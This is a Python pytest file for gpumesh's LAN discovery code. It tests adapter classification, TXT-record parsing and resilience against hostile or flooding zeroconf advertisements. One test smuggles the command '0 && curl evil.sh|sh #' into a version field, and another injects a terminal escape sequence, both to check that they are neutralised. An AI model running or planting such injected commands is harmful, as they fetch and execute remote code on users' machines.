"""LAN discovery's pure parts (address choice, TXT parsing) and its zeroconf round trip on
loopback only (TESTING.md: the root namespace never multicasts on a real interface)."""

from __future__ import annotations

import asyncio
import logging
import threading
import types

import pytest
from conftest import wait_for

from gpumesh import discovery
from gpumesh.discovery import Adapter, Found, classify
from gpumesh.errors import ConfigError
from gpumesh.protocol import MAJOR
from gpumesh.security import derive_keys

LOOPBACK = ["127.0.0.1"]


@pytest.mark.parametrize("name, address, kind", [
    ("eth0", "192.168.1.20", "lan"),
    ("en0", "10.0.0.5", "lan"),
    ("Wi-Fi", "192.168.178.3", "lan"),
    ("lo", "127.0.0.1", "loopback"),
    ("eth1", "169.254.10.1", "link-local"),
    ("docker0", "172.17.0.1", "virtual"),
    ("br-5f3a1c", "172.18.0.1", "virtual"),
    ("vEthernet (WSL)", "172.29.64.1", "virtual"),
    ("vboxnet0", "192.168.56.1", "virtual"),
    ("virbr0", "192.168.122.1", "virtual"),
    ("tailscale0", "100.101.102.103", "vpn"),
    ("eth0", "100.64.0.7", "vpn"),  # Tailscale's CGNAT range, whatever the adapter is called
    ("wg0", "10.8.0.2", "vpn"),
    ("tun0", "10.9.0.2", "vpn"),
])
def test_adapters_are_classified_so_only_the_lan_is_advertised(name, address, kind):
    assert classify(name, address) == kind


def test_advertised_addresses_follow_the_bind(monkeypatch):
    monkeypatch.setattr(discovery, "lan_addresses", lambda adapters=None: ["192.168.1.20"])
    assert discovery.advertised_addresses("127.0.0.1") == []  # loopback: never advertised
    assert discovery.advertised_addresses("localhost") == []
    assert discovery.advertised_addresses("0.0.0.0") == ["192.168.1.20"]
    assert discovery.advertised_addresses("0.0.0.0", "10.8.0.2") == ["10.8.0.2"]  # --host-ip
    assert discovery.advertised_addresses("192.168.1.20") == ["192.168.1.20"]
    # --host-ip does not open a loopback bind, so it is not advertised there.
    assert discovery.advertised_addresses("127.0.0.1", "192.168.1.20") == []


def test_lan_addresses_skip_everything_but_the_lan():
    adapters = [Adapter("lo", "127.0.0.1", 8, "loopback"), Adapter("docker0", "172.17.0.1", 16, "virtual"),
                Adapter("eth0", "192.168.1.20", 24, "lan"), Adapter("wg0", "10.8.0.2", 24, "vpn")]
    assert discovery.lan_addresses(adapters) == ["192.168.1.20"]


GOOD = {b"txtvers": b"1", b"role": b"coord", b"proto": b"1", b"mesh": b"0123456789ab",
        b"ver": b"0.1.0", b"py": b"3.11", b"host": b"desk"}


def test_an_advertisement_parses_only_when_every_field_holds():
    found = discovery.parse_advertisement("x", 8000, ["10.0.0.5", "fe80::1", "224.0.0.251"], GOOD)
    assert found == Found("x", "desk", ("10.0.0.5",), 8000, "0123456789ab", 1, "0.1.0", "3.11")
    hostile: list[tuple[object, list[str], dict[bytes, bytes | None]]] = [
        (8000, ["10.0.0.5"], {**GOOD, b"txtvers": b"2"}),  # a schema we do not know
        (8000, ["10.0.0.5"], {**GOOD, b"role": None}),
        (8000, ["10.0.0.5"], {**GOOD, b"mesh": b"ZZZZZZZZZZZZ"}),
        (8000, ["10.0.0.5"], {**GOOD, b"mesh": b"0123456789ab" * 100}),
        (8000, ["10.0.0.5"], {**GOOD, b"proto": b"1e9"}),
        (8000, ["10.0.0.5"], {**GOOD, b"proto": b"\xff"}),
        (8000, ["10.0.0.5"], {**GOOD, b"proto": "²".encode()}),  # a digit int() refuses
        (0, ["10.0.0.5"], GOOD), (70000, ["10.0.0.5"], GOOD), (True, ["10.0.0.5"], GOOD),
        ("8000", ["10.0.0.5"], GOOD),
        (8000, [], GOOD), (8000, ["not an address", "0.0.0.0"], GOOD),
        (8000, ["255.255.255.255", "240.0.0.1"], GOOD),  # nobody listens there
    ]
    for port, addresses, props in hostile:
        assert discovery.parse_advertisement("x", port, addresses, props) is None, (port, props)
    odd = discovery.parse_advertisement("x", 8000, [f"10.0.0.{i}" for i in range(1, 40)],
                                        {**GOOD, b"host": b"\x1b[2Jevil", b"ver": b"v" * 500})
    assert odd is not None and odd.host == "?" and odd.version == "?"
    assert len(odd.addresses) == discovery.MAX_ADDRESSES


def test_urls_on_this_machines_subnet_come_first():
    found = Found("x", "desk", ("10.8.0.9", "192.168.1.9"), 8000, "0" * 12, 1, "0.1.0", "3.11")
    local = [Adapter("eth0", "192.168.1.20", 24, "lan")]
    assert found.urls(local) == ["tcp://192.168.1.9:8000", "tcp://10.8.0.9:8000"]
    assert found.urls([]) == ["tcp://10.8.0.9:8000", "tcp://192.168.1.9:8000"]


def test_the_txt_record_is_small_and_holds_no_secret():
    token = "t" * 40
    record = discovery.txt_record(derive_keys(token).fingerprint)
    assert list(record)[0] == "txtvers" and record["proto"] == str(MAJOR)
    assert sum(len(k) + len(v) + 2 for k, v in record.items()) < 200
    keys = derive_keys(token)
    text = "".join(record.values())
    assert token not in text and keys.server_public.decode() not in text


@pytest.fixture
def fake_zeroconf(monkeypatch):
    """A Zeroconf of nothing but an event loop (asks for names run on it), for ``browse``."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    monkeypatch.setattr(discovery, "_zeroconf", lambda interfaces: type("Z", (), {
        "loop": loop, "close": lambda self: None})())
    try:
        yield
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(5)
        loop.close()


def test_a_record_of_another_type_or_one_that_does_not_resolve_is_skipped(monkeypatch,
                                                                            fake_zeroconf):
    # Any host on the LAN can answer for the service type with a name of another type:
    # zeroconf hands it on, and ServiceInfo raised out of every browse (join, discover,
    # GPUMesh() looking for its coordinator) until it was skipped.
    import zeroconf
    from zeroconf import asyncio as zeroconf_asyncio

    class Browser:
        def __init__(self, zc, service_type, handlers):
            for name in ("evil._other._tcp.local.", "odd." + discovery.SERVICE_TYPE):
                handlers[0](zeroconf=zc, service_type=service_type, name=name,
                            state_change=zeroconf.ServiceStateChange.Added)

        def cancel(self):
            pass

    class Info:  # as zeroconf's: another type's name raises; this one's will not resolve
        def __init__(self, service_type, name):
            if not name.endswith("." + service_type):
                raise zeroconf.BadTypeInNameException(name)

        def load_from_cache(self, zc):
            return False

        async def async_request(self, zc, timeout):
            raise zeroconf.BadTypeInNameException("a name zeroconf cannot resolve")

    monkeypatch.setattr(zeroconf, "ServiceBrowser", Browser)
    monkeypatch.setattr(zeroconf_asyncio, "AsyncServiceInfo", Info)
    assert discovery.browse(0.3, ["192.0.2.1"]) == []


def test_an_advertised_version_is_quoted_in_advice_only_when_it_is_a_version(monkeypatch):
    # The version a coordinator advertises goes into "pip install gpumesh==VERSION": a LAN
    # host advertising the mesh's (public) fingerprint must not get to write that command.
    fingerprint = derive_keys("t" * 40).fingerprint
    hostile = {**GOOD, b"mesh": fingerprint.encode(), b"proto": b"99",
               b"ver": b"0 && curl evil.sh|sh #"}
    found = discovery.parse_advertisement("x", 8000, ["10.0.0.5"], hostile)
    assert found is not None and found.version == "?"
    monkeypatch.setattr(discovery, "browse", lambda *args, **kwargs: [found])
    from gpumesh.errors import ProtocolMismatch

    with pytest.raises(ProtocolMismatch) as info:
        discovery.find_coordinator("t" * 40, ["192.0.2.1"], 0.1)
    assert "curl" not in str(info.value) and "pip install" not in str(info.value)
    assert "install the gpumesh version it runs here" in str(info.value)


def fake_lan(monkeypatch, names: list, adverts: dict[str, dict[bytes, bytes | None]],
             answers: dict[str, dict[bytes, bytes | None]] | None = None):
    """zeroconf as a LAN would look to ``browse``: ``names`` announced in order (a float: a
    pause of that many seconds, the rest then coming from another thread); those in
    ``adverts`` came with their records (in the cache), those in ``answers`` resolve when
    asked for on the network, the rest never resolve, each ask waiting out its time as
    zeroconf's does. Returns the names asked for (``asked``) and those whose ask was stopped
    before its time was out (``cancelled``)."""

    import zeroconf
    from zeroconf import asyncio as zeroconf_asyncio

    lan = types.SimpleNamespace(asked=[], cancelled=[])

    class Browser:
        def __init__(self, zc, service_type, handlers):
            def announce():
                for name in names:
                    if isinstance(name, float):  # a pause before the next names come
                        threading.Event().wait(name)
                        continue
                    handlers[0](zeroconf=zc, service_type=service_type, name=name,
                                state_change=zeroconf.ServiceStateChange.Added)

            if any(isinstance(name, float) for name in names):
                threading.Thread(target=announce, daemon=True).start()
            else:
                announce()

        def cancel(self):
            pass

    class Info:
        def __init__(self, service_type, name):
            self.name, self.port, self.properties = name, 8000, {}

        def load_from_cache(self, zc):
            if self.name not in adverts:
                return False
            self.properties = adverts[self.name]
            return True

        def parsed_addresses(self):
            return ["10.0.0.5"]

        async def async_request(self, zc, timeout):
            lan.asked.append(self.name)
            if answers and self.name in answers:
                self.properties = answers[self.name]
                return True
            try:
                await asyncio.sleep(timeout / 1000)  # no answer comes
            except asyncio.CancelledError:
                lan.cancelled.append(self.name)
                raise
            return False

    monkeypatch.setattr(zeroconf, "ServiceBrowser", Browser)
    monkeypatch.setattr(zeroconf_asyncio, "AsyncServiceInfo", Info)
    return lan


def test_names_that_never_resolve_do_not_hold_the_coordinator_back(monkeypatch, fake_zeroconf):
    # Names were resolved one by one in the order they came, RESOLVE_MS each: 20 names sent
    # by any host on the LAN ahead of the coordinator's made every browse time out.
    ours = "desk." + discovery.SERVICE_TYPE
    bogus = [f"bogus-{n}.{discovery.SERVICE_TYPE}" for n in range(20)]
    lan = fake_lan(monkeypatch, [*bogus, bogus[0], ours], {ours: GOOD})
    found = discovery.browse(10.0, ["192.0.2.1"], want="0123456789ab", settle=0.2)
    assert [f.name for f in found] == [ours]
    assert lan.asked == bogus[:1]  # one ask at most: the coordinator came before it ended
    assert wait_for(lambda: lan.cancelled == bogus[:1], what="the ask stopped")


def test_a_record_that_resolves_on_the_network_with_hostile_fields_is_skipped(monkeypatch,
                                                                            fake_zeroconf):
    # Its proto "²" passed str.isdigit() and then failed int(): `gpumesh join` and `gpumesh
    # discover` stopped with a traceback for one record any host on the LAN could send.
    ours = "desk." + discovery.SERVICE_TYPE
    hostile = "bogus." + discovery.SERVICE_TYPE
    lan = fake_lan(monkeypatch, [hostile, 0.2, ours], {ours: GOOD},
                   answers={hostile: {**GOOD, b"proto": "²".encode()}})
    found = discovery.browse(10.0, ["192.0.2.1"], want="0123456789ab", settle=0.1)
    assert [f.name for f in found] == [ours] and lan.asked == [hostile]
    real = discovery.parse_advertisement

    def broken(*args):
        raise ValueError("a parse that fails")

    monkeypatch.setattr(discovery, "parse_advertisement", broken)  # whatever else may raise
    assert discovery.browse(0.5, ["192.0.2.1"], settle=0.1) == []
    monkeypatch.setattr(discovery, "parse_advertisement", real)


def test_other_meshes_adverts_cannot_crowd_out_the_one_wanted(monkeypatch, fake_zeroconf):
    others = {f"other-{n}.{discovery.SERVICE_TYPE}": {**GOOD, b"mesh": f"{n:012x}".encode()}
              for n in range(1000, 1000 + discovery.MAX_FOUND + 10)}
    ours = "desk." + discovery.SERVICE_TYPE
    fake_lan(monkeypatch, [*others, ours], {**others, ours: GOOD})
    found = discovery.browse(10.0, ["192.0.2.1"], want="0123456789ab", settle=0.2)
    assert len(found) == discovery.MAX_FOUND + 1
    assert [f.name for f in found if f.mesh == "0123456789ab"] == [ours]


def test_a_name_that_comes_while_another_is_asked_for_is_found_at_once(monkeypatch, fake_zeroconf):
    # The ask blocked the loop for its 1.5 s: a bogus name sent just ahead of the
    # coordinator's answer held it back that long, or past the timeout near its end.
    ours = "desk." + discovery.SERVICE_TYPE
    bogus = "bogus." + discovery.SERVICE_TYPE
    lan = fake_lan(monkeypatch, [bogus, 0.3, ours], {ours: GOOD})
    found = discovery.browse(10.0, ["192.0.2.1"], want="0123456789ab", settle=0.1)
    assert [f.name for f in found] == [ours] and lan.asked == [bogus]
    # Found while the ask went on: the browse ended before the ask's time was out.
    assert wait_for(lambda: lan.cancelled == [bogus], what="the ask stopped")


def test_copies_of_the_wanted_meshs_advert_are_bounded_too(monkeypatch, fake_zeroconf):
    # Its fingerprint is in every advert: any LAN host can copy it.
    copies = {f"copy-{n}.{discovery.SERVICE_TYPE}": GOOD for n in range(200)}
    fake_lan(monkeypatch, list(copies), copies)
    found = discovery.browse(10.0, ["192.0.2.1"], want="0123456789ab", settle=0.2)
    assert len(found) == discovery.MAX_WANTED


def refusing_zeroconf(monkeypatch, refused: set[str], error: OSError | None = None
                      ) -> list[list[str]]:
    """``_zeroconf`` as zeroconf behaves where joining the multicast group on an address fails
    (an address this machine no longer has: errno 19, as measured), or ``error``; returns the
    interface lists it was made with."""
    made: list[list[str]] = []

    def make(interfaces):
        made.append(list(interfaces))
        if refused & set(interfaces):
            raise error or OSError(19, "No such device")
        return type("Z", (), {"close": lambda self: None})()

    monkeypatch.setattr(discovery, "_zeroconf", make)
    return made


def test_a_browse_where_no_interface_can_listen_says_what_to_do(monkeypatch):
    # zeroconf's OSError went out of browse(): 'gpumesh discover' and 'join' without a URL
    # ended in a traceback on such a machine.
    refusing_zeroconf(monkeypatch, {"192.0.2.7"})
    with pytest.raises(ConfigError) as caught:
        discovery.browse(0.1, ["192.0.2.7"])
    text = str(caught.value)
    assert "192.0.2.7" in text and "No such device" in text
    assert "GPUMESH_DISCOVERY_INTERFACES" in text and "gpumesh join tcp://" in text


def test_a_browse_refused_for_another_reason_than_its_addresses_does_not_blame_them(
        monkeypatch):
    import errno

    refusing_zeroconf(monkeypatch, {"192.0.2.7"}, OSError(errno.EADDRINUSE, "Address in use"))
    with pytest.raises(ConfigError) as caught:
        discovery.browse(0.1, ["192.0.2.7"])
    text = str(caught.value)
    assert "Address in use" in text and "5353" in text and "gpumesh join tcp://" in text
    assert "GPUMESH_DISCOVERY_INTERFACES" not in text


def test_a_browse_leaves_out_the_interfaces_that_cannot_listen(monkeypatch, caplog):
    made = refusing_zeroconf(monkeypatch, {"192.0.2.7"})
    browsed = []

    class Browser:
        def __init__(self, zc, service_type, handlers):
            browsed.append(zc)

        def cancel(self):
            pass

    import zeroconf

    monkeypatch.setattr(zeroconf, "ServiceBrowser", Browser)
    with caplog.at_level(logging.WARNING, logger="gpumesh.discovery"):
        assert discovery.browse(0.1, ["192.0.2.7", "198.51.100.3"]) == []
    assert made[-1] == ["198.51.100.3"] and len(browsed) == 1
    assert "192.0.2.7" in caplog.text and "looking on 198.51.100.3 only" in caplog.text


def test_discover_turns_a_browse_that_cannot_listen_into_one_line(monkeypatch):
    from click.testing import CliRunner

    from gpumesh.cli.main import cli

    refusing_zeroconf(monkeypatch, {"192.0.2.7"})
    result = CliRunner().invoke(cli, ["discover", "--timeout", "0.5"],
                                env={"GPUMESH_DISCOVERY_INTERFACES": "192.0.2.7"})
    assert result.exit_code == 1
    assert "cannot look for coordinators on 192.0.2.7" in result.output
    assert isinstance(result.exception, SystemExit)  # fail()'s exit, not an OSError
